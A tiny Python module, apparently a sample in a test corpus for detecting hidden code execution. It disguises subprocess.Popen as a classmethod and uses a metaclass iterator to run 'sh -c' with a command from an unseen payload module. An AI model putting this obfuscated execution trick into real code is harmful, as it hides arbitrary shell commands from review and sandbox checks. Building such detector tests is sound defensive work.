"""A class of the standard library as a class method."""
CATEGORY = "callable"
REACH = "run"

import subprocess

from . import payload


class Meta(type):
    def __iter__(cls):
        return iter(["sh", "-c", payload.COMMAND])


class Own(metaclass=Meta):
    own = classmethod(subprocess.Popen)
